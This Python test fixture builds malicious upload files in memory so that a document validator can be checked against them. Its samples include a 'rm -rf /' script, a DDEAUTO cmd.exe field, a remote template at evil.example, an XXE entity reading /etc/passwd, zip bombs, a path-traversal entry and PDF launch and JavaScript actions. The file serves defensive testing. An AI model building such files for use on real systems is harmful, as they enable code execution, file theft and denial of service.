"""Files that somebody who means harm would send, made here so that none of them lies in the tree.

Each is a name (which is never believed) and its bytes, with the reason it is refused for.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
RELATION = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/>'
DOCUMENT = '<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body>{}</w:body></w:document>'


@dataclass(frozen=True)
class Hostile:
    what: str
    name: str
    content: Callable[[], bytes]
    reason: str

    def __str__(self) -> str:
        return self.what


def word(*, body: str = "Hej", types: str = "", links: str = "", **parts: bytes | str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES.format(types))
        archive.writestr("word/document.xml", DOCUMENT.format(body))
        archive.writestr("word/_rels/document.xml.rels", RELATIONS.format(links))
        for name, part in parts.items():
            archive.writestr(name, part)
    return file.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], Any] = lambda document: None, **saving: Any) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    file = io.BytesIO()
    document.save(file, **saving)
    return file.getvalue()


def picture(kind: str, size: tuple[int, int] = (8, 8), **saving: Any) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size, "red").save(file, kind, **saving)
    return file.getvalue()


def opening(action: dict[str, Any]) -> Callable[[], bytes]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(**action)

    return lambda: pdf(change)


def noting(annotation: dict[str, Any]) -> Callable[[], bytes]:
    def change(document: pikepdf.Pdf) -> None:
        page = document.pages[0]
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **annotation)
        page.obj.Annots = Array([document.make_indirect(note)])

    return lambda: pdf(change)


def rooted(name: str, value: Any) -> Callable[[], bytes]:
    return lambda: pdf(lambda document: document.Root.__setitem__(name, value))


def attach(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = b"MZ"


def zipped(**parts: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return file.getvalue()


def many_parts() -> bytes:
    return word(**{f"word/media/{number}.txt": b"" for number in range(1100)})


def twice() -> bytes:
    file = io.BytesIO(word())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("WORD/document.xml", "<x/>")
    return file.getvalue()


def overlapping() -> bytes:
    """Two names for the same bytes, as the bombs that need no nesting do it."""
    content = bytearray(word(**{"word/a.xml": b"<a/>" * 50, "word/b.xml": b"<b/>" * 50}))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        first = archive.getinfo("word/a.xml").header_offset
    at = content.rfind(b"word/b.xml")
    content[at - 4 : at] = struct.pack("<I", first)
    return bytes(content)


def lying_about_size() -> bytes:
    content = bytearray(word(**{"word/big.xml": b"<a>" + b" " * 3_000_000}))
    at = content.rfind(b"word/big.xml") - 46
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def locked_zip() -> bytes:
    content = bytearray(word())
    for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        content[content.find(mark) + place] |= 1
    return bytes(content)


def pixel_flood() -> bytes:
    """A PNG of a few bytes that claims to be 60,000 by 60,000."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 100)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


LOCKED = {"encryption": pikepdf.Encryption(owner="x", user="y")}
EXTERNAL = RELATION.format("attachedTemplate", "http://evil.example/t.dotm")
BILLION = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
FETCHES = '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText>'
JS = String("app.alert(1)")

HOSTILE = [
    Hostile("nothing at all", "a.pdf", lambda: b"", "empty"),
    Hostile("a web page that says it is a PDF", "a.pdf", lambda: b"<html><script>1</script>", "unknown_kind"),
    Hostile("an SVG with a script", "a.png", lambda: b"<svg onload='x()'/>", "unknown_kind"),
    Hostile("a Windows program", "a.docx", lambda: b"MZ\x90" + bytes(200), "unknown_kind"),
    Hostile("a shortcut", "protokoll.pdf.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(90), "unknown_kind"),
    Hostile(
        "an old Office file",
        "a.doc",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "unknown_kind",
    ),
    Hostile("a script", "a.xlsx", lambda: b"#!/bin/sh\nrm -rf /\n", "unknown_kind"),
    Hostile("a GIF that is also JavaScript", "a.jpg", lambda: b"GIF89a=1;alert(1)//", "unknown_kind"),
    Hostile("a file past the limit", "a.pdf", lambda: b"%PDF-" + bytes(20_000_001), "too_large"),
    Hostile("a PDF of noise", "a.pdf", lambda: b"%PDF-1.7 noise %%EOF", "broken"),
    Hostile("a PDF with a zip behind it", "a.pdf", lambda: pdf() + zipped(x=b"x"), "two_kinds"),
    Hostile("a locked PDF", "a.pdf", lambda: pdf(**LOCKED), "locked"),
    Hostile(
        "a PDF that runs JavaScript when opened",
        "a.pdf",
        opening({"S": Name.JavaScript, "JS": JS}),
        "active_pdf",
    ),
    Hostile(
        "a PDF that starts a program", "a.pdf", opening({"S": Name.Launch, "F": String("cmd")}), "active_pdf"
    ),
    Hostile(
        "a PDF that sends a form", "a.pdf", opening({"S": Name.SubmitForm, "F": String("x")}), "active_pdf"
    ),
    Hostile(
        "a PDF that opens another file",
        "a.pdf",
        opening({"S": Name.GoToR, "F": String("\\\\host\\x")}),
        "active_pdf",
    ),
    Hostile(
        "a PDF with a JavaScript address",
        "a.pdf",
        opening({"S": Name.URI, "URI": String("javascript:x")}),
        "active_pdf",
    ),
    Hostile(
        "a PDF with a file pinned to a page", "a.pdf", noting({"Subtype": Name.FileAttachment}), "active_pdf"
    ),
    Hostile("a PDF with a film in it", "a.pdf", noting({"Subtype": Name.RichMedia}), "active_pdf"),
    Hostile(
        "a PDF with an XFA form", "a.pdf", rooted("/AcroForm", Dictionary(XFA=String("x"))), "active_pdf"
    ),
    Hostile("a PDF with a program inside", "a.pdf", lambda: pdf(attach), "embedded"),
    Hostile(
        "a PDF with a program inside packed objects",
        "a.pdf",
        lambda: pdf(attach, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "embedded",
    ),
    Hostile("a zip of something else", "a.docx", lambda: zipped(x=b"x"), "unknown_kind"),
    Hostile("a broken zip", "a.docx", lambda: b"PK\x03\x04" + bytes(60), "broken"),
    Hostile("a zip with a program in front", "a.docx", lambda: b"MZ" + word(), "unknown_kind"),
    Hostile(
        "a document with a program behind it", "a.docx", lambda: word() + b"MZ\x90" + bytes(90), "two_kinds"
    ),
    Hostile("a zip bomb", "a.docx", lambda: word(**{"word/x.xml": b" " * 130_000_000}), "bomb"),
    Hostile(
        "a part that swells a thousand times",
        "a.docx",
        lambda: word(**{"word/x.xml": b" " * 5_000_000}),
        "bomb",
    ),
    Hostile("parts that share their bytes", "a.docx", overlapping, "bomb"),
    Hostile("a part that lies about its size", "a.docx", lying_about_size, "broken"),
    Hostile("a thousand parts", "a.docx", many_parts, "too_many_parts"),
    Hostile("a part that climbs out", "a.docx", lambda: word(**{"../../etc/cron.d/x": b"x"}), "odd_names"),
    Hostile("a part with a Windows path", "a.docx", lambda: word(**{"C:/x": b"x"}), "odd_names"),
    Hostile("two parts of the same name", "a.docx", twice, "odd_names"),
    Hostile("a locked document", "a.docx", locked_zip, "locked"),
    Hostile("macros", "a.docx", lambda: word(**{"word/vbaProject.bin": b"x"}), "macros"),
    Hostile(
        "macros by content type", "a.docx", lambda: word(types='<x t="macroEnabled.main+xml"/>'), "macros"
    ),
    Hostile(
        "an ActiveX control", "a.docx", lambda: word(**{"word/activeX/activeX1.xml": "<x/>"}), "embedded"
    ),
    Hostile(
        "a program as an object",
        "a.docx",
        lambda: word(**{"word/embeddings/oleObject1.bin": b"x"}),
        "embedded",
    ),
    Hostile("a template fetched from the net", "a.docx", lambda: word(links=EXTERNAL), "links"),
    Hostile(
        "a picture fetched from a file share",
        "a.docx",
        lambda: word(links=RELATION.format("image", "file://h/x")),
        "links",
    ),
    Hostile(
        "a link that runs a protocol",
        "a.docx",
        lambda: word(links=RELATION.format("hyperlink", "ms-msdt:/id")),
        "links",
    ),
    Hostile("a field that runs a command", "a.docx", lambda: word(body=FETCHES), "links"),
    Hostile("a billion laughs", "a.docx", lambda: word(**{"word/x.xml": BILLION}), "entities"),
    Hostile("an entity that reads a file", "a.docx", lambda: word(**{"word/x.xml": OUTSIDE}), "entities"),
    Hostile(
        "entities hidden in UTF-16",
        "a.docx",
        lambda: word(**{"word/x.xml": OUTSIDE.encode("utf-16")}),
        "odd_text",
    ),
    Hostile("half a picture", "a.jpg", lambda: picture("JPEG", (400, 400))[:300], "broken"),
    Hostile("a picture of noise", "a.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(90), "broken"),
    Hostile("a flood of pixels", "a.png", pixel_flood, "too_many_pixels"),
]
